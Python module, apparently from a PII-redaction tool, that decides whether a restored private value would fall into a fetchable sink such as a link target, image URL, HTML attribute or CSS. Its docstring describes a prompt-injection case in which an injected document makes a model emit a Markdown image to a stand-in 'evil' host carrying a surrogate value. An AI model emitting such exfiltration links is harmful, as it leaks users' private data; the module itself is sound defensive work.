"""Where a restored value would land: a pure function of the text before it, so that a stream and a whole text agree.

Values return to prose and code. They do not return to places that a client may fetch or render on its own: link targets,
image URLs, HTML attributes, style sheets, unless the link is `mailto:`, `tel:`, relative, or goes to a host that the user, the
system prompt or the policy named. An injected document can make a model write `![](https://evil/?q=PERSON_4K7Q2MX8FT)`.
Clients disagree on where an address ends; what any of them would still take for a part of it counts as one.
"""

import re
from collections.abc import Callable, Iterable
from html import unescape
from typing import Final

WINDOW: Final = 4096  # characters of context; a URL longer than this is nobody's link

MAX_TARGETS: Final = 16  # openings of a link in one word; nobody writes more

Hosts = Callable[[], frozenset[str]]

# Names that linkifiers take for a host without a scheme, as linkify-it does: two letters, or one of the old few.
_DOMAIN: Final = r"(?:[a-z0-9-]+\.)+(?:[a-z]{2}|com|net|org|info|biz|edu|gov|name|pro|shop|web|dev|app|xyz|site|online)(?::\d+)?(?=[/?#])"
_WEB_START: Final = re.compile(
    rf"(?<![a-z0-9])(?:(?:https?|ftp|wss?):[/\\]{{2}}|www\.)|(?<=[\"'(={{\[,;])[/\\]{{2}}(?=[\w-]+\.)|(?<![\w@./\\-]){_DOMAIN}",
    re.IGNORECASE | re.ASCII,
)
_SCRIPT_URL: Final = re.compile(r"\b(?:javascript|data|vbscript|blob|file):\S*$", re.IGNORECASE)
_AUTOLINK: Final = re.compile(r"<(?P<url>[a-z][a-z0-9+.-]{1,31}:(?!:)[^\s<>]*)$", re.IGNORECASE)
_CSS_URL: Final = re.compile(r"\burl\(\s+(?P<url>[^\s\"')]*)$", re.IGNORECASE)
_ANGLE_TARGET: Final = re.compile(r"\]\([ \t\n]*<[^>\n]*$|\]\([ \t\n]*<(?:[^>\n\\]|\\.)*$")
_BASE: Final = re.compile(r"<base(?=[\s/>])", re.IGNORECASE)
_STYLE: Final = re.compile(r"<(?P<end>/?)style(?=[\s/>])", re.IGNORECASE)
_MAIL_DOMAIN: Final = re.compile(r"(?:@|%40)([\w.-]+)")
_TAG_START: Final = re.compile(r"<[a-zA-Z]")
_TAG: Final = re.compile(r"<[a-zA-Z](?:[^>\"']|\"[^\"]*\"|'[^']*')*>")
_ATTRIBUTE: Final = re.compile(
    r"[\s/\"'](?P<name>[a-zA-Z_:@][\w:.-]*)\s*=\s*\\*(?:\"(?P<double>[^\"]*)|'(?P<single>[^']*)|(?P<bare>[^\s\"'>]*))$"
)
_SCHEME: Final = re.compile(r"[a-z][a-z0-9+.-]*:", re.IGNORECASE)
_NAMED: Final = re.compile(rf"(?<![\w@./\\-])(www\.[\w.-]+|{_DOMAIN})", re.IGNORECASE | re.ASCII)
_HOST: Final = re.compile(r"(?:https?:)?//(?:[^\s/@?#]*@)?(\[[0-9a-f:.]+\]|[\w.-]+)", re.IGNORECASE)
_HOST_ENDS: Final = re.compile(r"(?::\d+)?[/?#]")  # a colon alone may yet turn the host into a user's name
_IGNORED: Final = re.compile(r"[\x00-\x20\x7f-\x9f]")  # what browsers skip in an address
_SPACE: Final = re.compile(r"\s")
_ANGLE_ENDS: Final = re.compile(r"[>\n]")
_ESCAPED: Final = re.compile(r"\\[()<>]")
_URL_ATTRIBUTES: Final = frozenset({"href", "src", "action", "formaction", "cite", "poster", "data", "srcset", "background", "xlink:href"})


def hosts_in(texts: Iterable[str]) -> frozenset[str]:
    """Return the hosts of every URL in `texts`, lower-cased: the ones somebody trusted already named."""
    named: set[str] = set()
    for text in texts:
        named.update(match[1] for match in _HOST.finditer(text))
        named.update(match[1].partition(":")[0] for match in _NAMED.finditer(text))
    return frozenset(host.lower().rstrip(".") for host in named)


def rebases(text: str) -> bool:
    """Whether `text` holds a tag that sends relative links elsewhere."""
    return "<" in text and _BASE.search(text) is not None


def landing(before: str, hosts: Hosts, *, based: bool = False) -> str | None:
    """Return the sink (`link`, `image`, `attribute`, `style`) that a value written after `before` would fall into, or None.

    `based`: the text before the window rebases relative links.
    """
    before = before[-WINDOW:]
    judge = _Judge(hosts, based or rebases(before))
    if "<" in before:
        attribute = _attribute(before)
        if attribute is not None:
            return None if _fetched(*attribute, judge) else "attribute"
        styles = list(_STYLE.finditer(before))
        if styles and not styles[-1]["end"]:
            return "style"
    target = _markdown(before, judge) if "](" in before else None
    if target is not None:
        return target or None
    reference = _reference(before) if "]:" in before else None
    if reference is not None:
        return None if judge.harmless(reference) else "link"
    css = _CSS_URL.search(before) if "url(" in before.lower() else None
    if css:
        return None if judge.harmless(css["url"]) else "link"
    return _address("" if not before or before[-1].isspace() else before.rsplit(None, 1)[-1], judge)


def _fetched(name: str, value: str, judge: "_Judge") -> bool:
    """Whether an attribute is an address to which values may go."""
    if name not in _URL_ATTRIBUTES:
        return False
    if name == "srcset":  # a comma ends an address or belongs to it
        return all(map(judge.harmless, (value.split() or [""])[-1].split(","))) if value[-1:].strip() else True
    return judge.harmless(value)


def _reference(before: str) -> str | None:
    """Return the target so far of a reference definition, `[label]: target`, which may begin on the next line."""
    colon = before.rfind("]:")
    target = before[colon + 2 :].lstrip()
    if before.rfind("[", 0, colon) < 0:
        return None
    if target.startswith("<"):
        return None if _ANGLE_ENDS.search(target) else target[1:]
    return None if _SPACE.search(target) else target


def _address(word: str, judge: "_Judge") -> str | None:
    """Return the sink if a word is an address that runs on."""
    if len(word) == WINDOW:
        return "link"  # nobody can see where it began
    if "&" in word:
        word = unescape(word)
    if not any(mark in word for mark in ":/.?#"):
        return None
    if _SCRIPT_URL.search(word):
        return "link"
    autolink = _AUTOLINK.search(word)
    if autolink and not judge.harmless(autolink["url"]):
        return "link"
    # A bare `//` is a comment in most languages; it is a URL behind a scheme, or where a string or a value begins.
    for web in _WEB_START.finditer(word):
        opening, url = word[: web.start()], word[web.start() :]
        quote = opening[-1:]
        ended = "<" in url or ">" in url or (quote and quote in "\"'`" and quote in url) or (opening.endswith("](") and _unbalanced(url))
        if not ended:
            bare = not web[0].endswith(("/", "\\")) and not web[0].lower().startswith("www.")
            return None if judge.harmless(f"//{url}" if bare else url) else "link"
    return None


def _markdown(before: str, judge: "_Judge") -> str | None:
    """Return the sink if the text ends in the target of a Markdown link, empty if that is harmless, None if it ends in none."""
    angle = _ANGLE_TARGET.search(before, max(0, before.rfind("\n", 0, max(0, before.rfind("\n"))))) if "<" in before else None
    starts, start = [angle.start() if angle else -1], before.rfind("](")
    while start >= 0 and len(starts) < MAX_TARGETS and not _SPACE.search(before[start + 2 :].lstrip(" \t\n")):
        starts.append(start)
        start = before.rfind("](", 0, start)
    found = "link" if len(starts) == MAX_TARGETS else None
    for start in starts:
        target = before[start + 2 :].lstrip(" \t\n")
        plain = _ESCAPED.sub("", target)
        inside = not _ANGLE_ENDS.search(plain) if target.startswith("<") else not _SPACE.search(plain) and not _unbalanced(plain)
        if start >= 0 and inside:
            if not judge.harmless(target.removeprefix("<")):
                return "image" if _is_image(before[:start]) else "link"
            found = found or ""
    return found


def _unbalanced(url: str) -> bool:
    """Whether a parenthesis closes in the address that did not open there: the address ended before it."""
    depth = 0
    for character in url:
        depth += (character == "(") - (character == ")")
        if depth < 0:
            return True
    return False


def _attribute(before: str) -> tuple[str, str] | None:
    """Return the name and the value so far of the HTML attribute in which the text ends, or None."""
    position = 0
    while start := _TAG_START.search(before, position):
        tag = _TAG.match(before, start.start())
        if tag is None:
            open_tag = _ATTRIBUTE.search(before, start.start())
            if open_tag is None:
                return None
            return open_tag["name"].lower(), next(v for v in (open_tag["double"], open_tag["single"], open_tag["bare"]) if v is not None)
        position = tag.end()
    return None


def _is_image(label: str) -> bool:
    """Whether the Markdown label that ends `label` was opened by `![`."""
    depth = 1
    for index in range(len(label) - 1, -1, -1):
        depth += (label[index] == "]") - (label[index] == "[")
        if depth == 0:
            return label[index - 1 : index] == "!"
    return False


class _Judge:
    """Says of a link, by its beginning, whether it may carry originals."""

    def __init__(self, hosts: Hosts, based: bool) -> None:
        self._hosts = hosts
        self._based = based

    def harmless(self, url: str) -> bool:
        """Judge as a lenient reader would take it."""
        url = _IGNORED.sub("", unescape(url)).lower()
        # Markdown drops a backslash before punctuation, browsers take it for a slash.
        return self._safe(url) if "\\" not in url else self._safe(url.replace("\\", "")) and self._safe(url.replace("\\", "/"))

    def _safe(self, url: str) -> bool:
        if url.startswith("mailto:"):  # what a value is mailed to: a surrogate has no domain
            return all(domain.rstrip(".") in self._hosts() for domain in _MAIL_DOMAIN.findall(url))
        if url.startswith("tel:"):
            return True
        if url.startswith("www."):
            url = f"//{url}"
        if url.startswith("//") or _SCHEME.match(url):
            match = _HOST.match(url)
            # The host must be complete before the value: what follows it could extend it.
            return bool(match and _HOST_ENDS.match(url, match.end()) and match[1].rstrip(".") in self._hosts())
        return not self._based  # relative, or empty: then the value is the whole target and goes where it says itself
